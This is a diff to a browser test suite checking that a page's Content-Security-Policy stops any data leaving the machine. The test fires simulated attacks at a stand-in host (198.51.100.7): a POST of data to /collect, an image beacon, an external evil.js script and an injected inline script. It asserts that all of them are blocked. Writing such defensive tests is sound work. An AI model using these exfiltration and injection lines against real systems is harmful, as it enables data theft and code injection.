@@ -546,7 +546,11 @@ test('7. nothing leaves the machine', async (t) => {
   const context = await browser.newContext({ acceptDownloads: true });
   t.after(() => context.close());
   const seen = [];
+  const failed = new Map();
+  const answered = [];
   context.on('request', (r) => seen.push(r.url()));
+  context.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText));
+  context.on('response', (r) => answered.push(r.url()));
   const sockets = [];
   const page = await context.newPage();
   page.on('websocket', (ws) => sockets.push(ws.url()));
@@ -566,6 +570,45 @@ test('7. nothing leaves the machine', async (t) => {
   const foreign = seen.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
   assert.deepEqual(foreign, [], 'requests to other origins');
   assert.deepEqual(sockets, [], 'websockets');
+
+  // The page's Content-Security-Policy forbids connections elsewhere: a
+  // fetch, an image and a script from another origin are all refused by the
+  // browser itself (and reported as violations), not merely never made.
+  const csp = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
+  assert.match(csp, /default-src 'none'/);
+  assert.match(csp, /connect-src 'self'(;|$)/);
+  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
+  const blocked = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    const fetched = await fetch('http://198.51.100.7/collect', { method: 'POST', body: 'data' }).then(
+      () => 'sent',
+      () => 'refused',
+    );
+    const img = document.createElement('img');
+    img.src = 'http://198.51.100.7/pixel.png';
+    document.body.append(img);
+    const script = document.createElement('script');
+    script.src = 'http://198.51.100.7/evil.js';
+    document.body.append(script);
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__inlineRan = true;';
+    document.body.append(inline);
+    await new Promise((r) => setTimeout(r, 300));
+    return { fetched, violations, inlineRan: window.__inlineRan === true };
+  });
+  assert.equal(blocked.fetched, 'refused');
+  assert.equal(blocked.inlineRan, false, 'an injected inline script does not run');
+  for (const directive of ['connect-src http://198.51.100.7/collect', 'img-src http://198.51.100.7/pixel.png', 'script-src-elem http://198.51.100.7/evil.js']) {
+    assert.ok(blocked.violations.includes(directive), `${directive} refused: ${JSON.stringify(blocked.violations)}`);
+  }
+  // Chromium reports the refused image and script as requests that failed
+  // with the reason "csp": none of them was answered.
+  const foreignAfter = seen.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
+  for (const url of foreignAfter) {
+    assert.equal(failed.get(url), 'csp', `${url} was blocked by the policy`);
+  }
+  assert.deepEqual(answered.filter((u) => new URL(u).origin !== origin), [], 'no response from another origin');
 });
 
 test('8. the settings and the average switch work from the keyboard', async (t) => {
